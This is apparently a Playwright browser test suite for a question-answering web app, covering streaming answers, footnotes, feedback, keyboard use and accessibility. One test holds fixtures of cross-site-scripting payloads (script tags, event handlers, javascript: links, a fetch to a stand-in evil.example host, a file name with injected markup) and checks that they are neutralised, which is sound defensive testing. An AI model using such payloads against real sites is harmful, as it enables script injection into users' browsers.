"""The page as people use it, in a real browser."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from typing import Any

import pytest
from sqlalchemy import text

from bot import wording
from tests.browser.conftest import Window
from tests.fakes.chat_model import FakeChatModel
from tests.page_builders import ASKED

EVIDENCE = "Employees get 30 vacation days a year."
Start = Callable[..., Any]


async def votes(process: Any) -> list[tuple[str, str]]:
    async with process.core.database.begin() as connection:
        rows = (await connection.execute(text("SELECT value, reason FROM feedback"))).all()
    return [(row.value, row.reason) for row in rows]


async def test_ask_watch_it_grow_open_a_footnote_and_say_what_was_wrong(serve: Start, open_window: Start) -> None:
    process = await serve(model=FakeChatModel("word " * 12, is_held=True))
    window: Window = await open_window(process)
    page = window.page
    await window.goto()
    await page.fill("#question", ASKED)
    await page.keyboard.press("Enter")
    # The evidence's footnotes and how far it is show before the answer does.
    await page.wait_for_selector("article[data-events] .notes a")
    assert wording.writing(0, None) in await page.inner_text("article .status")
    assert await page.get_attribute("article .growing", "aria-busy") == "true"
    process.model.release()
    await page.wait_for_selector("article:not([data-events]) .words")
    assert EVIDENCE in await page.inner_text("article .words")
    assert await page.get_attribute("article .growing", "aria-busy") == "false"

    await page.click("article a.note")
    await page.wait_for_selector("#cited")
    assert await page.inner_text("#cited mark") == EVIDENCE
    assert await page.locator("#cited").evaluate("e => e.getBoundingClientRect().top < innerHeight")
    await page.click("text=Back to the answer")

    await page.click("article button[value=down]")
    await page.wait_for_selector(".reasons")
    assert await votes(process) == [("down", "")], "it counts at once"
    await page.check(f"text={wording.DOWN_REASONS['outdated']}")
    await page.fill(".reasons textarea", "It is 28 since May.")
    await page.click(".reasons button")
    await page.wait_for_selector(".reason")
    assert await votes(process) == [("down", "outdated: It is 28 since May.")]
    assert await page.locator("article").count() == 1
    assert await page.get_attribute("button[value=down]", "aria-pressed") == "true"


async def test_a_conversation_goes_on_without_loading_the_page_anew(serve: Start, open_window: Start) -> None:
    window: Window = await open_window(await serve())
    await window.goto()
    await window.ask(ASKED)
    loads = [url for url in window.requests if url.endswith(".css") or "style.css" in url]
    await window.ask("and for contractors?")
    assert "Contractors get no paid vacation" in await window.page.inner_text("article:nth-of-type(2)")
    assert [url for url in window.requests if "style.css" in url] == loads
    assert await window.page.evaluate("document.activeElement.id") == "question"
    await window.page.reload()
    assert await window.page.locator("article").count() == 2


async def test_a_new_line_is_begun_with_shift_and_an_empty_box_asks_nothing(serve: Start, open_window: Start) -> None:
    window: Window = await open_window(await serve())
    await window.goto()
    await window.page.focus("#question")
    await window.page.keyboard.press("Enter")
    await window.page.keyboard.type("How many vacation days")
    await window.page.keyboard.press("Shift+Enter")
    await window.page.keyboard.type("do employees get?")
    await window.page.keyboard.press("Enter")
    await window.page.wait_for_selector("article:not([data-events])")
    assert await window.page.inner_text("article h2") == "How many vacation days\ndo employees get?"
    assert await window.page.locator("article").count() == 1


async def test_an_answer_is_stopped_by_its_button_and_the_focus_is_not_lost(serve: Start, open_window: Start) -> None:
    process = await serve(model=FakeChatModel("word " * 300, piece_seconds=0.1))
    window: Window = await open_window(process)
    await window.goto()
    await window.page.fill("#question", ASKED)
    await window.page.keyboard.press("Enter")
    await window.page.wait_for_selector("article .notes")
    await window.page.focus("article button[value=cancel]")
    await asyncio.sleep(0.5)
    assert await window.page.evaluate("document.activeElement.value") == "cancel", "also while the answer changes"
    await window.page.keyboard.press("Enter")
    await window.page.wait_for_selector(f"text={wording.CANCELLED}")
    assert await window.page.evaluate("document.activeElement.tagName") == "ARTICLE"
    assert not process.desk.busy


async def test_a_lost_connection_is_opened_again_by_itself(serve: Start, open_window: Start) -> None:
    process = await serve(model=FakeChatModel("word " * 25, is_held=True))
    window: Window = await open_window(process)
    await window.goto()
    await window.page.fill("#question", ASKED)
    await window.page.keyboard.press("Enter")
    await window.page.wait_for_selector("article[data-events] .notes")
    process.surface.close()  # every stream ends without its last event
    await asyncio.sleep(0.3)
    process.surface.is_closed = False
    process.model.release()
    await window.page.wait_for_selector("article:not([data-events])")
    assert EVIDENCE in await window.page.inner_text("article .words")
    assert len([url for url in window.requests if url.endswith("/events")]) >= 2


async def test_an_answer_is_copied_as_markdown(serve: Start, open_window: Start) -> None:
    window: Window = await open_window(await serve(), permissions=["clipboard-read", "clipboard-write"])
    await window.goto()
    await window.ask(ASKED)
    await window.page.click("text=Copy as Markdown")
    await window.page.wait_for_selector("text=Copied")
    copied = await window.page.evaluate("navigator.clipboard.readText()")
    assert f"> {EVIDENCE} [1]" in copied
    assert "[1] vacation.md, Vacation › Employees, line 5" in copied


async def test_without_scripts_everything_works_by_forms(serve: Start, open_window: Start) -> None:
    process = await serve(model=FakeChatModel("word " * 15, is_held=True))
    window: Window = await open_window(process, java_script_enabled=False)
    page = window.page
    await window.goto()
    await page.fill("#question", ASKED)
    await page.click(".send")
    await page.wait_for_selector("article[data-events]")
    process.model.release()
    await page.wait_for_selector("article:not([data-events])")  # the page looks again by itself
    assert EVIDENCE in await page.inner_text("article .words")
    await page.click("button[value=down]")
    await page.check("input[value=wrong]")
    await page.click(".reasons button")
    assert await votes(process) == [("down", "wrong")]
    await page.click("a.note")
    assert await page.inner_text("#cited mark") == EVIDENCE


HOSTILE_HTML = """<html><head><title>Sabbatical <script>window.hacked=1</script></title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);</style></head>
<body onload="window.hacked=2"><h1>Sabbatical</h1><script>window.hacked=3;fetch("https://evil.example/")</script>
<p style="background:url(https://evil.example/z.png)">A sabbatical lasts six months
&lt;script&gt;window.hacked=4&lt;/script&gt;&lt;img src=x onerror="window.hacked=5"&gt; for everyone.</p>
<img src="https://evil.example/pixel.png" onerror="window.hacked=6"><iframe src="https://evil.example/"></iframe>
<a href="javascript:window.hacked=7">Read more</a><svg onload="window.hacked=8"></svg>
<form action="https://evil.example/"><button>Send</button></form></body></html>"""
HOSTILE_MARKDOWN = """# Relocation <img src=x onerror="window.hacked=9">

## Allowance </h2><script>window.hacked=10</script>

The relocation allowance is 5000 EUR <script>window.hacked=11</script>
![x](https://evil.example/pixel.png "y") [more](javascript:window.hacked=12) [data](data:text/html,<script>1</script>)
<style>body{display:none}</style><a href="https://evil.example" onclick="window.hacked=13">click</a>

| Country | Amount |
| :-----: | -----: |
| <iframe srcdoc="<script>parent.hacked=14</script>"></iframe> | 5000 EUR |
"""


@pytest.mark.parametrize(
    ("question", "found"),
    [
        ("How long does a sabbatical last for everyone?", "sabbatical lasts six months"),
        ("How much is the relocation allowance?", "relocation allowance is 5000 EUR"),
    ],
)
async def test_a_hostile_document_runs_nothing_and_reaches_nobody(
    serve: Start, open_window: Start, question: str, found: str
) -> None:
    files = {"sabbatical.html": HOSTILE_HTML, 'relocation"><img src=x onerror=hacked=15>.md': HOSTILE_MARKDOWN}
    window: Window = await open_window(await serve(files))
    page = window.page
    await window.goto()
    await window.ask(question)
    await page.click("article a.note")
    await page.wait_for_selector("#cited")
    assert found in await page.inner_text("#cited")
    assert found in " ".join(await page.locator("#cited mark").all_inner_texts())
    assert await page.evaluate("window.hacked") is None
    assert await page.locator("main :is(img, iframe, style, script, form, object, base, svg)").count() == 0
    assert (
        await page.locator("[onerror], [onload], [onclick], [style], a[href^='javascript:'], a[href^='data:']").count()
        == 0
    )


async def test_everything_can_be_done_with_the_keyboard(serve: Start, open_window: Start) -> None:
    process = await serve()
    window: Window = await open_window(process)
    page = window.page

    async def tab_to(selector: str, most: int = 40) -> None:
        for _ in range(most):
            await page.keyboard.press("Tab")
            if await page.evaluate("s => document.activeElement.matches(s)", selector):
                ring = await page.evaluate(
                    "() => { const e = document.activeElement, s = getComputedStyle(e), "
                    "b = getComputedStyle(e.closest('.box') ?? e); "
                    "return s.outlineStyle !== 'none' || b.boxShadow !== 'none'; }"
                )
                assert ring, f"{selector} shows that it has the focus"
                return
        raise AssertionError(f"{selector} can't be reached")

    await window.goto()
    await tab_to(".skip", 1)
    await page.keyboard.press("Enter")
    await tab_to("#question", 3)
    await page.keyboard.type(ASKED)
    await page.keyboard.press("Enter")
    await page.wait_for_selector("article:not([data-events])")
    await page.evaluate("document.activeElement.blur()")
    await tab_to("article button[value=down]")
    await page.keyboard.press("Enter")
    await page.wait_for_selector(".reasons")
    assert await page.evaluate("document.activeElement.name") == "kind", "the focus goes where it goes on"
    await page.keyboard.press("Space")
    await tab_to(".reasons button")
    await page.keyboard.press("Enter")
    await page.wait_for_selector(".reason")
    assert await votes(process) == [("down", "wrong")]
    await page.evaluate("document.activeElement.blur()")
    await tab_to("article a.note")
    await page.keyboard.press("Enter")
    await page.wait_for_selector("#cited mark")
    await tab_to("a.back")
    await page.keyboard.press("Enter")
    await page.wait_for_selector("article")


WIDE = {
    "wide.md": "# Wide\n\nThe wide page has " + "averylongwordwithoutanyspace" * 8 + " in it.\n\n"
    "| " + " | ".join(f"Column {n}" for n in range(12)) + " |\n|" + " --- |" * 12 + "\n| "
    + " | ".join(f"the wide value {n}" for n in range(12)) + " |\n\n```\n" + "the wide code " * 20 + "\n```\n"
}  # fmt: skip


@pytest.mark.parametrize("width", [320, 360, 768])
async def test_nothing_is_cut_off_or_scrolls_sideways_on_a_small_screen(
    serve: Start, open_window: Start, width: int
) -> None:
    window: Window = await open_window(await serve(WIDE), viewport={"width": width, "height": 640})
    page = window.page

    async def fits() -> None:
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), page.url

    await window.goto()
    await fits()
    await window.ask("What does the wide page have in it?")
    await fits()
    await page.click("button[value=down]")
    await page.wait_for_selector(".reasons")
    await fits()
    await page.click("a.note")
    await page.wait_for_selector("#cited")
    await fits()
    for selector in ("a.back", "header .brand"):
        box = await page.locator(selector).bounding_box()
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= width


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_every_page_is_accessible_in_light_and_dark(
    serve: Start, open_window: Start, axe: str, scheme: str
) -> None:
    process = await serve(settings={"web_password": "open sesame"})
    window: Window = await open_window(process, color_scheme=scheme)
    page = window.page
    window.allowed = ("403", "404")

    async def check() -> None:
        await page.evaluate(axe)
        found = await page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        assert [(entry["id"], [node["html"] for node in entry["nodes"]]) for entry in found["violations"]] == []

    await window.goto()
    await check()
    await page.fill("#password", "wrong")
    await page.keyboard.press("Enter")
    await page.wait_for_selector("[role=alert]")
    await check()
    await page.fill("#password", "open sesame")
    await page.keyboard.press("Enter")
    await page.wait_for_selector("#question")
    await check()
    shade = await page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)[0]")
    assert (shade < 60) == (scheme == "dark")
    await window.ask("What is the limit for a taxi?")
    await window.ask("Who feeds the office cat?")
    await page.click("article:nth-of-type(1) button[value=down]")
    await page.wait_for_selector(".reasons")
    await check()
    await page.click("article:nth-of-type(1) a.note")
    await page.wait_for_selector("#cited")
    await check()
    await window.goto("/no-such-page")
    await check()


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_the_pages_for_admins_are_accessible_and_fit_on_a_small_screen(
    serve: Start, open_window: Start, axe: str, scheme: str
) -> None:
    process = await serve()
    window: Window = await open_window(process, color_scheme=scheme, viewport={"width": 360, "height": 640})
    page = window.page
    await window.goto()
    await window.ask("What is the limit for a taxi?")
    await window.ask("Who feeds the office cat?")
    await page.click("article:nth-of-type(1) button[value=down]")
    await page.wait_for_selector(".reasons")
    await page.click("article:nth-of-type(2) button[value=up]")
    await page.wait_for_selector("article:nth-of-type(2) [aria-pressed=true]")
    number = (await page.get_attribute("article", "id")).removeprefix("q")
    for path in ("/admin", "/admin/questions", f"/why/{number}", "/admin/gaps", "/admin/golden"):
        await window.goto(path)
        await page.evaluate(axe)
        found = await page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        broken = [(path, entry["id"], [node["html"] for node in entry["nodes"]]) for entry in found["violations"]]
        assert broken == []
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path


async def test_what_was_not_answered_or_not_liked_stands_in_the_gap_report(serve: Start, open_window: Start) -> None:
    window: Window = await open_window(await serve())
    await window.goto()
    await window.ask("Who feeds the office cat?")
    assert wording.NOT_FOUND in await window.page.inner_text("article .words")
    await window.ask(ASKED)
    await window.page.click("article:nth-of-type(2) button[value=down]")
    await window.page.check(f"text={wording.DOWN_REASONS['outdated']}")
    await window.page.click(".reasons button")
    await window.page.wait_for_selector(".reason")
    await window.page.click("nav >> text=Gaps")
    report = await window.page.inner_text("main")
    assert "Who feeds the office cat?" in report
    assert ASKED in report


async def test_who_wants_no_motion_gets_none(serve: Start, open_window: Start) -> None:
    process = await serve(model=FakeChatModel("word " * 300, piece_seconds=0.1))
    window: Window = await open_window(process, reduced_motion="reduce")
    await window.goto()
    await window.page.fill("#question", ASKED)
    await window.page.keyboard.press("Enter")
    await window.page.wait_for_selector("article .dots")
    assert await window.page.evaluate("document.getAnimations().length") == 0
    await window.page.click("button[value=cancel]")
    await window.page.wait_for_selector("article:not([data-events])")
